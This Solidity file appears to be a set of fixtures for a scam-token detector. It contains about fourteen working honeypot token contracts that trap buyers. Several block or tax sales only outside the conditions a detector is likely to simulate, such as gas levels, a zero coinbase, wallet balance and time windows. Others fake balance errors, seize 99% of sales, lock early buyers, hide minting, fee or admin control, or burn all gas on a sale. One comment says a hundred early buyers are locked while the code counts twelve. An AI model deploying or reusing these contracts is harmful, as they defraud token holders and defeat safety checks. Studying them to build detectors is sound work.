// SPDX-License-Identifier: MIT
// Tokens whose makers read how they are checked: each tells a trial from a trade, or closes where a trial does not look.
pragma solidity 0.8.28;

import {Base, Owned} from './Base.sol';

/// Sells for whoever brings more gas than a wallet does.
contract OpenToGas is Owned {
    constructor(address f, address w) Owned(f, w) {}

    function _transfer(address from, address to, uint256 amount) internal override {
        require(!_isSale(from, to) || gasleft() > 1_200_000, 'K');
        _move(from, to, amount);
    }
}

/// Sells in blocks that nobody was paid for, as simulated ones are.
contract OpenToNoMiner is Owned {
    constructor(address f, address w) Owned(f, w) {}

    function _transfer(address from, address to, uint256 amount) internal override {
        require(!_isSale(from, to) || block.coinbase == address(0), 'K');
        _move(from, to, amount);
    }
}

/// Sells for round purses, as trials are given.
contract OpenToPurse is Owned {
    constructor(address f, address w) Owned(f, w) {}

    function _transfer(address from, address to, uint256 amount) internal override {
        require(!_isSale(from, to) || (tx.origin.balance > 3 ether && tx.origin.balance < 100 ether), 'K');
        _move(from, to, amount);
    }
}

/// Sells for contracts, as a trial's helper is one.
contract OpenToContracts is Owned {
    constructor(address f, address w) Owned(f, w) {}

    function _transfer(address from, address to, uint256 amount) internal override {
        require(!_isSale(from, to) || from.code.length > 0, 'K');
        _move(from, to, amount);
    }
}

/// Sells in half a minute of each hour.
contract OpenHalfAMinute is Owned {
    constructor(address f, address w) Owned(f, w) {}

    function _transfer(address from, address to, uint256 amount) internal override {
        require(!_isSale(from, to) || block.timestamp % 3_600 < 30, 'K');
        _move(from, to, amount);
    }
}

/// Says that the seller has too little, as an honest contract says it.
contract ClaimsPoverty is Owned {
    constructor(address f, address w) Owned(f, w) {}

    function _transfer(address from, address to, uint256 amount) internal override {
        require(!_isSale(from, to), 'insufficient balance');
        _move(from, to, amount);
    }
}

/// Takes 99 % of sales beyond crumbs.
contract TaxesLargeSales is Owned {
    constructor(address f, address w) Owned(f, w) {}

    function _transfer(address from, address to, uint256 amount) internal override {
        uint256 taken = _isSale(from, to) && amount > totalSupply / 5_000 ? (amount * 99) / 100 : 0;
        _move(from, to, amount - taken);
        if (taken > 0) _move(from, owner, taken);
    }
}

/// A thousandth of what a holder has may be sold in an hour.
contract CrumbsPerHour is Owned {
    mapping(address => uint256) private soldAt;

    constructor(address f, address w) Owned(f, w) {}

    function _transfer(address from, address to, uint256 amount) internal override {
        if (_isSale(from, to)) {
            require(amount <= balances[from] / 1_000 && block.timestamp > soldAt[from] + 1 hours, 'slow');
            soldAt[from] = block.timestamp;
        }
        _move(from, to, amount);
    }
}

/// The first hundred buyers never sell; whoever comes later may.
contract FirstBuyersLocked is Owned {
    uint256 private count;
    mapping(address => bool) private isEarly;

    constructor(address f, address w) Owned(f, w) {}

    function _transfer(address from, address to, uint256 amount) internal override {
        if (from == pair && count < 12 && !isEarly[to]) {
            isEarly[to] = true;
            count++;
        }
        require(!(to == pair && isEarly[from]), 'K');
        _move(from, to, amount);
    }
}

/// Holders send freely; what a router takes of known holders for the pair is refused. Only routers sell.
contract RoutersRefused is Owned {
    mapping(address => bool) private isKnown;

    constructor(address f, address w) Owned(f, w) {}

    function mark(address[] calldata list) external onlyOwner {
        for (uint256 i; i < list.length; i++) isKnown[list[i]] = true;
    }

    function transferFrom(address from, address to, uint256 amount) public override returns (bool) {
        require(!(to == pair && isKnown[from]), 'TRANSFER_FROM_FAILED');
        return super.transferFrom(from, to, amount);
    }
}

/// Mints for a second contract, which its maker turns.
contract Rewards {
    address private immutable keeper = msg.sender;

    function distribute(MintsForRewards token, uint256 amount) external {
        require(msg.sender == keeper);
        token.reward(keeper, amount);
    }
}

contract MintsForRewards is Owned {
    Rewards private rewards;

    constructor(address f, address w, Rewards rewards_) Owned(f, w) {
        rewards = rewards_;
    }

    function reward(address to, uint256 amount) external {
        require(msg.sender == address(rewards));
        _mint(to, amount);
    }
}

/// The fee stands in a second contract.
contract FeeBook {
    address private immutable keeper = msg.sender;
    uint256 public rate = 1;

    function tune(uint256 next) external {
        require(msg.sender == keeper);
        rate = next;
    }
}

contract FeeByBook is Owned {
    FeeBook private book;

    constructor(address f, address w, FeeBook book_) Owned(f, w) {
        book = book_;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        uint256 taken = _isSale(from, to) ? (amount * book.rate()) / 100 : 0;
        _move(from, to, amount - taken);
        if (taken > 0) _move(from, address(0xdead), taken);
    }
}

/// An admin that only a mapping names closes it.
contract MappedAdmin is Owned {
    mapping(bytes32 => bool) private isAdmin;
    bool private closed;

    constructor(address f, address w, address admin) Owned(f, w) {
        isAdmin[keccak256(abi.encode(admin))] = true;
    }

    function sync(bool value) external {
        require(isAdmin[keccak256(abi.encode(msg.sender))]);
        closed = value;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        require(!closed || !_isSale(from, to), 'K');
        _move(from, to, amount);
    }
}

/// A sale burns all gas.
contract BurnsGas is Owned {
    constructor(address f, address w) Owned(f, w) {}

    function _transfer(address from, address to, uint256 amount) internal override {
        if (_isSale(from, to)) while (true) {}
        _move(from, to, amount);
    }
}
